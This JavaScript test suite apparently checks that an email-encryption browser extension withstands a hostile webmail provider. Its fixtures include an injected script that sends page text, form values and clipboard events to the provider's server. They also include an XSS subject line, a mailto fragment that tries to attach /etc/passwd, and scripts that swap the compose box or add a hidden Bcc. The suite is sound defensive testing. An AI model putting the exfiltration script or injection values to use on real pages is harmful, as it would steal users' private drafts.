// SPDX-License-Identifier: Apache-2.0
// What a provider can do while a mail is being written to it: give the editor poisoned fields,
// exchange the box, break off at every step, press its own Send. It never gets the text.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { browserNames } from './support/browsers.mjs';
import { hostileSceneFor } from './support/hostile-scene.mjs';
import { endHosts } from './support/host-processes.mjs';
import { findTrace } from './support/plaintext-traces.mjs';
import { waitUntil } from './support/wait.mjs';
import { words } from './support/words.mjs';

const canary = 'ComposeCanaryZ6fL2h';
const subjectCanary = 'SubjectCanaryP1dX7c';
const ownWords = 'copied by the person';

/** Sends home whatever the page comes to hold, and what lies on the clipboard. */
const thief = `
  addEventListener('DOMContentLoaded', () => {
    let last = '';
    setInterval(() => {
      const held = document.body.innerText + [...document.querySelectorAll('input, textarea')].map(({ value }) => value).join(' ');
      if (held !== last) fetch('/draft', { method: 'POST', body: last = held });
    }, 50);
  });
  for (const type of ['copy', 'cut', 'paste']) addEventListener(type, () => fetch('/draft', { method: 'POST', body: 'clipboard ' + type }), true);`;

const boxHolds = (page, part) => page.evaluate((text) => document.querySelector('#composebody').value.includes(text), part);

for (const name of browserNames) {
  describe(name, () => {
    const holder = hostileSceneFor(name);

    /** A page of the person's own with a field in it; what is typed or pasted there is `text`. */
    async function inOwnField(use) {
      const page = await holder.scene.open(holder.scene.webmail.compose());
      await page.click('#composebody');
      await use(page);
      const text = await page.value('#composebody');
      await page.close();
      return text;
    }

    before(() => inOwnField(async (page) => {
      await page.type(ownWords);
      await page.press('Control+a');
      await page.press('Control+c');
    }));

    /** An editor over a fresh compose page, with the canaries typed. */
    async function writing(options = {}) {
      const { scene } = holder;
      const page = await scene.open(scene.webmail.compose({ to: scene.webmail.address('alice'), script: thief, ...options }));
      const editor = await scene.bob.openEditor(page);
      await editor.fill('#subject', subjectCanary);
      await editor.click('#text');
      await editor.type(canary);
      return { page, editor };
    }

    /** Presses Send in the page; nothing readable has gone out then or before. */
    async function pressSend(page) {
      await page.activate();
      await page.click('button.send');
      const held = await page.waitForShadow('dialog[open]');
      const text = await held.text();
      await page.press('Escape');
      assertNothingReadable();
      return text;
    }

    function assertNothingReadable() {
      for (const body of holder.scene.webmail.received) {
        assert.equal(findTrace(Buffer.from(body), [canary, subjectCanary]), undefined, body.slice(0, 200));
      }
    }

    async function encrypt(editor) {
      const { tone, text } = await holder.scene.bob.encrypt(editor);
      assert.equal(tone, 'good', text);
    }

    async function leave(page, editor) {
      editor.answerDialogs(true);
      if (!(await editor.isClosed())) await editor.close();
      await page.close();
    }

    test('poisoned fields are text in the editor, and nothing of an address line is obeyed', async () => {
      const { scene } = holder;
      const subject = '"><img src=x onerror=alert(1)>\u202Eevil';
      const url = scene.webmail.compose({ to: `"<b>Eve</b>" <eve@example.test>, not an address, ${'a'.repeat(2000)}`, subject });
      const page = await scene.open(`${url}#mailto:x@example.test?attach=/etc/passwd&body=insert&insert=/etc/passwd`);
      const editor = await scene.bob.openEditor(page);
      assert.equal(await editor.value('#subject'), subject);
      assert.equal(await editor.value('#text'), '');
      assert.equal(await editor.count('img:not(.icon), b'), 0);
      assert.equal((await editor.text()).includes('passwd'), false);
      assert.deepEqual(editor.dialogs, []);
      await leave(page, editor);
    });

    test('with the host ended at any step, Send sends nothing readable and the text stays', async () => {
      const { scene } = holder;
      const { page, editor } = await writing();
      const profile = scene.bob.profile;
      assert.match(await pressSend(page), new RegExp(words('content_hold_title')), 'before Encrypt');
      await editor.activate();
      profile.scriptPinentry('wait correct%20horse');
      await editor.click('#encrypt');
      await waitUntil(() => profile.pinentryLines().includes('GETPIN'), { what: 'the dialog' });
      endHosts(profile);
      await editor.waitForSelector('#outcome .note.bad');
      assert.equal(await editor.value('#text'), canary);
      assert.equal(await boxHolds(page, 'AGE'), false);
      assert.match(await pressSend(page), new RegExp(words('content_hold_title')), 'after a failed Encrypt');
      await editor.activate();
      profile.scriptPinentry('pin correct%20horse');
      await encrypt(editor);
      endHosts(profile);
      await page.activate();
      await page.click('button.send');
      await waitUntil(() => scene.webmail.received.some((body) => body.startsWith('[') && body.includes('BEGIN AGE')), { what: 'the mail' });
      assertNothingReadable();
      await leave(page, editor);
    });

    test('a box exchanged or altered after Encrypt is held, and never held readable text', async () => {
      const { scene } = holder;
      const alterations = [
        () => { const box = document.querySelector('#composebody'); box.value = box.value.replace(/[A-Z]{2}(?=[a-z])/, 'xx'); },
        () => {
          const other = document.createElement('textarea');
          other.id = 'composebody';
          other.value = 'Hello, in clear.';
          document.querySelector('#composebody').replaceWith(other);
        },
        () => { document.querySelector('#composebody').value += '\nPS: in clear.'; },
        () => { document.querySelector('#_bcc').value = 'eve@example.test'; },
      ];
      const { page, editor } = await writing();
      await encrypt(editor);
      await page.evaluate(() => {
        const box = document.querySelector('#composebody');
        const armor = box.value;
        globalThis.restore = () => {
          document.querySelector('#composebody').replaceWith(box);
          box.value = armor;
          document.querySelector('#_bcc').value = '';
        };
      });
      for (const alter of alterations) {
        await page.evaluate(alter);
        await pressSend(page);
        await page.evaluate(() => { globalThis.restore(); });
      }
      await leave(page, editor);
    });

    test('a page that takes its box, or itself, away leaves the text in the editor', async () => {
      const { page, editor } = await writing();
      await page.evaluate(() => { document.querySelector('form').remove(); });
      await editor.activate();
      await editor.click('#encrypt');
      await editor.waitForSelector('#outcome .note.bad');
      assert.equal(await editor.value('#text'), canary);
      await page.evaluate(() => { location.href = 'about:blank'; });
      await editor.waitForText(words('page_gone').slice(0, 20));
      assert.equal(await editor.value('#text'), canary);
      assertNothingReadable();
      await leave(page, editor);
    });

    test('a page that presses Send itself sends ciphertext, or nothing of ours', async () => {
      const { scene } = holder;
      const { page, editor } = await writing({ script: `${thief} setInterval(() => document.querySelector('button.send')?.click(), 100);` });
      await encrypt(editor);
      await waitUntil(() => scene.webmail.received.some((body) => body.includes('BEGIN AGE')), { what: 'the mail' });
      assertNothingReadable();
      await leave(page, editor);
    });

    test('nothing is ever copied to the clipboard by itself', async () => {
      assert(!holder.scene.webmail.received.some((body) => body.startsWith('clipboard ')));
      const pasted = await inOwnField((page) => page.press('Control+v'));
      assert.equal(pasted, ownWords, 'what the person copied before all this');
    });
  });
}
